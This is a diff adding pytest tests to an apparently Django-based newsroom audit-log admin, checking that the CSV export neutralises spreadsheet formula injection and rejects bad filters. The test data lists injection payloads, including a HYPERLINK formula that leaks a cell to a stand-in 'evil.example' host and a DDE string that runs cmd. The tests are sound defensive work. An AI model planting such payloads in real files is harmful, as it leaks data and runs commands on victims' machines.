@@ -74,3 +74,37 @@ def test_the_log_is_read_filtered_and_exported_never_edited(client, desk):
     assert AuditEntry.objects.filter(pk=entry.pk).exists()
     client.force_login(UserFactory(username="jo", groups="Journalist"))
     assert client.get("/admin/articles/auditentry/").status_code == 403
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?leak="&A2,"Open")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("headline", FORMULAS)
+def test_the_csv_export_never_holds_a_formula(client, desk, headline):
+    editor, _ = desk
+    article = ArticleFactory(draft=True, title=headline)
+    services.article_publish(article=article, user=editor)
+    AuditEntry.objects.update(summary=headline)
+    client.force_login(editor)
+    export = client.get(reverse("admin:articles_auditentry_export"))
+    rows = list(csv.reader(io.StringIO(export.content.decode(), newline="")))
+    for row in rows[1:]:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    assert rows[1][5] == "'" + headline  # shown as text, nothing lost
+
+
+def test_a_bad_filter_on_the_export_is_a_400_not_a_500(client, desk):
+    editor, _ = desk
+    client.force_login(editor)
+    url = reverse("admin:articles_auditentry_export")
+    response = client.get(url, {"at__gte": "xyz"})
+    assert response.status_code == 400
+    assert "filters" in response.content.decode()
